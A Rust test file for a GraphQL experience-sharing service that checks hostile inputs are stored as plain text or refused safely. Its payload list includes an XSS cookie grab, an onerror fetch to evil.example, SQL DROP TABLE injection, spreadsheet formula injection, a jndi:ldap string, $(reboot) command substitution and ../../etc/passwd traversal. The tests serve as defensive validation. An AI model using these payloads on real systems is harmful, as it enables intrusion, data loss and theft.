//! Hostile writes: refused in time with nothing half-written, or stored as the plain text that they are.

use std::time::Instant;

use entity::code::Role;
use serde_json::{Value, json};

use super::{
    MUTATIONS, OTHER, OWNER, answer, client, complete, done, faults, fingerprint, id_in, run,
    seeded,
};
use crate::support::IN_TIME;
use crate::support::ask::Client;
use crate::support::floke::Floke;
use crate::support::served::Answer;
use crate::support::token::token;

const TEXTS: [&str; 16] = [
    "<script>alert(document.cookie)</script>",
    "<img src=x onerror=\"fetch('//evil.example')\">",
    "</title><iframe srcdoc='&lt;b&gt;'>",
    "'; DROP TABLE experience; --",
    "\" OR 1=1 /* \\'; SELECT pg_sleep(10) */",
    "=HYPERLINK(\"http://evil.example\";\"Klikk\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+47 -1 %00 %0d%0a ${jndi:ldap://x} {{7*7}} $(reboot) `id`",
    "\u{202e}lrutul\u{202c} \u{2066}skjult\u{2069} \u{200f}rtl",
    "👩‍👩‍👧‍👦 🏳️‍🌈 🇳🇴 e\u{301}\u{323} Z͑ͫ̓a̴l̷g̸o̵",
    "\\u0000 \\x00 \\n %s%n %n",
    "null",
    "__proto__",
    "{\"$ne\": null}",
    "ÅÅÅ \u{1f600}\u{10ffff}\u{fffd}",
    "../../etc/passwd",
];

const READ: &str =
    "query ($id: ID!) { experience(id: $id) { title summary context wouldDoDifferently
    advice { condition } problems { title description } solutions { title description }
    partnerships { partner { name } roleText } lessons { nodes { text } }
    results { indicator unit } sources { title } contact { role } } }";

#[tokio::test(flavor = "multi_thread")]
async fn texts_come_back_as_they_were_given() {
    let (_database, app) = seeded().await;
    let owner = client(&app, Role::Contributor, Some(OWNER)).await;
    for text in TEXTS {
        let input = json!({
            "title": text, "summary": text, "context": text, "wouldDoDifferently": format!("{text}\r\n\t{text}"),
            "advice": { "kind": "TRY_IF", "condition": text },
            "problems": [{ "title": text, "description": text }],
            "solutions": [{ "title": text, "description": text }],
            "partners": [{ "name": text, "kind": "BUSINESS", "roleText": text }],
            "lessons": [{ "kind": "ADVICE", "text": text }],
            "results": [{ "indicator": text, "value": 1, "unit": text }],
            "sources": [{ "title": text, "url": "https://ks.no/" }],
            "contact": { "role": text, "email": "post@kommune.example" },
            "note": text, "idempotencyKey": text,
        });
        let id = id_in(&done(&owner, "createExperience", &input).await);
        let data = owner.data(READ, json!({ "id": id })).await;
        let expected = json!({
            "title": text, "summary": text, "context": text, "wouldDoDifferently": format!("{text}\r\n\t{text}"),
            "advice": { "condition": text },
            "problems": [{ "title": text, "description": text }],
            "solutions": [{ "title": text, "description": text }],
            "partnerships": [{ "partner": { "name": text }, "roleText": text }],
            "lessons": { "nodes": [{ "text": text }] },
            "results": [{ "indicator": text, "unit": text }],
            "sources": [{ "title": text }],
            "contact": { "role": text },
        });
        assert_eq!(data["experience"], expected);
        // Sent again it is known by the same key.
        assert_eq!(id_in(&done(&owner, "createExperience", &input).await), id);
        let withdraw = json!({ "id": id, "expectedVersion": 1, "reason": text });
        done(&owner, "withdrawExperience", &withdraw).await;
    }
}

#[tokio::test(flavor = "multi_thread")]
#[expect(clippy::too_many_lines, reason = "most of it is a table")]
async fn what_is_huge_is_refused_in_time() {
    let (_database, app) = seeded().await;
    let owner = client(&app, Role::Contributor, Some(OWNER)).await;
    let before = fingerprint(&app).await;
    let huge = "ø".repeat(1_000_000);
    let digits = "1".repeat(1_000_000);
    let with = |field: &str, value: Value| {
        let mut input = json!({ "title": "T", "problems": [] });
        input[field] = value;
        input
    };
    let items = |item: Value| Value::from(vec![item; 10_000]);
    for (input, code, path) in [
        (with("title", json!(huge)), "TOO_LONG", "title"),
        (with("context", json!(huge)), "TOO_LONG", "context"),
        (with("note", json!(huge)), "TOO_LONG", "note"),
        (
            with("idempotencyKey", json!(huge)),
            "TOO_LONG",
            "idempotencyKey",
        ),
        (
            with("municipality", json!(huge)),
            "NOT_FOUND",
            "municipality",
        ),
        (
            with("municipalities", json!([huge])),
            "NOT_FOUND",
            "municipalities.0",
        ),
        (
            with("problems", json!([{ "title": huge }])),
            "TOO_LONG",
            "problems.0.title",
        ),
        (
            with("problems", json!([{ "id": huge }])),
            "NOT_FOUND",
            "problems.0.id",
        ),
        (
            with(
                "partners",
                json!([{ "name": "N", "kind": "STATE", "organisationNumber": digits }]),
            ),
            "INVALID",
            "partners.0.organisationNumber",
        ),
        (
            with(
                "sources",
                json!([{ "title": "K", "url": format!("https://{huge}") }]),
            ),
            "TOO_LONG",
            "sources.0.url",
        ),
        (
            with(
                "contact",
                json!({ "role": "R", "email": format!("{huge}@ks.no") }),
            ),
            "TOO_LONG",
            "contact.email",
        ),
        (
            with("problems", items(json!({ "title": "P" }))),
            "TOO_MANY",
            "problems",
        ),
        (
            with("solutions", items(json!({ "id": "sol_x" }))),
            "TOO_MANY",
            "solutions",
        ),
        (with("partners", items(json!({}))), "TOO_MANY", "partners"),
        (
            with("municipalities", items(json!("mun_x"))),
            "TOO_MANY",
            "municipalities",
        ),
        (
            with("lessons", items(json!({ "kind": "ADVICE", "text": "" }))),
            "TOO_MANY",
            "lessons",
        ),
        (
            with("sources", items(json!({ "title": "", "url": "" }))),
            "TOO_MANY",
            "sources",
        ),
        (
            with("results", items(json!({ "indicator": "", "value": 0 }))),
            "TOO_MANY",
            "results",
        ),
    ] {
        let started = Instant::now();
        let payload = run(&owner, "createExperience", &input).await;
        assert!(started.elapsed() < IN_TIME, "{path}");
        let found = faults(&payload);
        assert!(
            found.contains(&(code.to_owned(), path.to_owned())),
            "{path}: {found:?}"
        );
        assert!(payload.to_string().len() < 2_000, "{path}");
    }
    // Sets may be long: what stands twice counts once.
    let types = vec!["PRODUCT"; 10_000];
    done(
        &owner,
        "createExperience",
        &with("innovationTypes", json!(types)),
    )
    .await;
    assert_ne!(fingerprint(&app).await, before);
}

#[tokio::test(flavor = "multi_thread")]
async fn forged_versions_and_ids_change_nothing() {
    let (_database, app) = seeded().await;
    let owner = client(&app, Role::Contributor, Some(OWNER)).await;
    let admin = client(&app, Role::Admin, None).await;
    let other = client(&app, Role::Contributor, Some(OTHER)).await;
    let id = id_in(&done(&owner, "createExperience", &complete("Ekte")).await);
    let problem = id_in(&done(&owner, "proposeProblem", &json!({ "title": "Ekte" })).await);
    let before = fingerprint(&app).await;
    for mutation in [
        "updateExperience",
        "submitExperience",
        "withdrawExperience",
        "assessOutcome",
    ] {
        for version in [0, -1, 2, i32::MAX, i32::MIN] {
            let mut input = json!({ "id": id, "expectedVersion": version });
            add_rest(mutation, &mut input);
            let payload = run(&owner, mutation, &input).await;
            let conflict = ("CONFLICT".to_owned(), "expectedVersion".to_owned());
            assert_eq!(faults(&payload), [conflict], "{mutation} {version}");
            // Nobody else learns that the version is another one.
            let payload = run(&other, mutation, &input).await;
            assert_eq!(
                faults(&payload),
                [("NOT_FOUND".to_owned(), "id".to_owned())]
            );
        }
        for version in [
            json!(2_147_483_648_i64),
            json!(1.5),
            json!("1"),
            json!(null),
            json!(true),
        ] {
            let mut input = json!({ "id": id, "expectedVersion": version });
            add_rest(mutation, &mut input);
            assert_refused(&owner, mutation, &input).await;
        }
    }
    let upper = id.to_uppercase();
    let strange = [
        "",
        " ",
        "exp_",
        "null",
        "1",
        &id[4..],
        &upper,
        "exp_zzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzz",
        "tok_00000000000000000000000000000000",
        "'; DROP TABLE experience; --",
        "exp_00000000-0000-0000-0000-000000000000",
        "exp_٠٠٠٠٠٠٠٠٠٠٠٠٠٠٠٠٠٠٠٠٠٠٠٠٠٠٠٠٠٠٠٠",
    ];
    for (mutation, input_type, _) in MUTATIONS {
        let sdl = floke::graphql::sdl();
        let (_, fields) = sdl.split_once(&format!("input {input_type} {{")).unwrap();
        let (fields, _) = fields.split_once("\n}").unwrap();
        if !fields.contains("\tid: ID!") {
            continue;
        }
        let is_term = !fields.contains("expectedVersion");
        let who = if is_term || mutation.starts_with("publish") || mutation.starts_with("return") {
            &admin
        } else {
            &owner
        };
        let of_other_kind = if is_term {
            id.as_str()
        } else {
            problem.as_str()
        };
        for strange in strange.iter().copied().chain([of_other_kind]) {
            let mut input = json!({ "id": strange });
            if !is_term {
                input["expectedVersion"] = json!(1);
            }
            add_rest(mutation, &mut input);
            let payload = run(who, mutation, &input).await;
            assert_eq!(
                faults(&payload),
                [("NOT_FOUND".to_owned(), "id".to_owned())],
                "{mutation} {strange}"
            );
        }
    }
    assert_eq!(fingerprint(&app).await, before);
}

/// Fields that a mutation needs beside id and version.
fn add_rest(mutation: &str, input: &mut Value) {
    match mutation {
        "updateExperience" => input["context"] = json!("Falsk"),
        "withdrawExperience" | "returnExperience" | "rejectTerm" => {
            input["reason"] = json!("Falsk");
        }
        "assessOutcome" => input["outcome"] = json!("SUCCEEDED"),
        "renameTerm" => input["title"] = json!("Falsk"),
        _ => {}
    }
}

/// That a request is refused before it runs, as the client's own fault.
async fn assert_refused(client: &Client, mutation: &str, input: &Value) {
    let answer = answer(client, mutation, input).await;
    assert!(
        answer["errors"][0]["message"].is_string(),
        "{input}: {answer}"
    );
    assert!(
        answer.get("data").is_none_or(Value::is_null),
        "{input}: {answer}"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn values_that_no_database_keeps_are_refused_over_http() {
    let (database, app) = seeded().await;
    let bearer = token(&app, Role::Admin, Some(OWNER)).await;
    let before = fingerprint(&app).await;
    let floke = Floke::on(database, app.clone()).await;
    let create = "mutation ($input: CreateExperienceInput!) { createExperience(input: $input) {
        experience { id } userErrors { code } } }";
    let refused = async |body: String| {
        let request = floke
            .client
            .post(floke.url("/graphql"))
            .bearer_auth(&bearer.secret);
        let request = request.header("content-type", "application/json");
        let answer = Answer::to(
            request
                .header("accept", "application/graphql-response+json")
                .body(body),
        )
        .await;
        let told: String = answer.body.to_string().chars().take(300).collect();
        let is_told = answer.status == 200 && answer.codes() == ["BAD_USER_INPUT"];
        assert!(
            answer.status.is_client_error() || is_told,
            "{} {told}",
            answer.status
        );
        assert!(answer.took < IN_TIME, "{told}");
        assert!(!answer.codes().contains(&"INTERNAL_SERVER_ERROR"), "{told}");
    };
    let with = |field: &str, value: Value| {
        let mut input = json!({ "title": "T", "problems": [] });
        input[field] = value;
        json!({ "query": create, "variables": { "input": input } }).to_string()
    };
    for value in ["a\u{0}b", "\u{0}"] {
        for field in ["title", "context", "municipality", "idempotencyKey", "note"] {
            refused(with(field, json!(value))).await;
        }
        refused(with("problems", json!([{ "title": value }]))).await;
        refused(with("partners", json!([{ "id": value }]))).await;
    }
    for day in ["2024-02-30", "0000-00-00", "2024-01-01T00:00:00Z", ""] {
        refused(with("expectedEnd", json!(day))).await;
    }
    for (field, value) in [
        ("startedYear", json!(2_147_483_648_i64)),
        ("title", json!(["T"])),
        ("title", json!({})),
        ("problems", json!([[[[]]]])),
        ("sector", json!("sector")),
        ("unknown", json!(1)),
        ("results", json!([{ "indicator": "I", "value": "1" }])),
    ] {
        refused(with(field, value)).await;
    }
    // Larger than a body, deeper than a parser goes, and a number that is none.
    refused(with("context", json!("x".repeat(1_000_000)))).await;
    let nested = format!("{}{}", "[".repeat(50_000), "]".repeat(50_000));
    refused(format!(
        r#"{{"query":"{{__typename}}","variables":{{"input":{nested}}}}}"#
    ))
    .await;
    let nested = format!("{}1{}", r#"{"a":"#.repeat(20_000), "}".repeat(20_000));
    refused(format!(
        r#"{{"query":"{{__typename}}","variables":{nested}}}"#
    ))
    .await;
    let number =
        with("results", json!([{ "indicator": "I", "value": 7 }])).replace(":7}", ":1e999}");
    refused(number).await;
    for literal in ["1e999", "\\\"1\\\"", "[[[[[[[[1]]]]]]]]"] {
        let text = format!(
            "mutation {{ createExperience(input: {{ title: \\\"T\\\", problems: [], results: [{{ indicator: \\\"I\\\", value: {literal} }}] }}) {{ userErrors {{ code }} }} }}"
        );
        refused(format!(r#"{{"query":"{text}"}}"#)).await;
    }
    let literal = "mutation { createApiToken(input: { role: READER, name: \"a\\u0000b\", municipality: \"\\u0000\" }) { secret } }";
    refused(json!({ "query": literal }).to_string()).await;
    assert_eq!(fingerprint(&app).await, before);
    // And it still serves, and keeps the greatest numbers that there are.
    let input = json!({ "title": "T", "problems": [], "results": [
        { "indicator": "I", "value": f64::MAX }, { "indicator": "J", "value": -5e-324 }] });
    let request = floke
        .ask_with(create, &json!({ "input": input }))
        .bearer_auth(&bearer.secret);
    let answer = Answer::to(request).await;
    assert_eq!(answer.data()["createExperience"]["userErrors"], json!([]));
    let owner = client(&app, Role::Reader, Some(OWNER)).await;
    let id = answer.data()["createExperience"]["experience"]["id"].clone();
    let data = owner
        .data(
            "query ($id: ID!) { experience(id: $id) { results { value } } }",
            json!({ "id": id }),
        )
        .await;
    assert_eq!(
        data["experience"]["results"],
        json!([{ "value": f64::MAX }, { "value": -5e-324 }])
    );
}
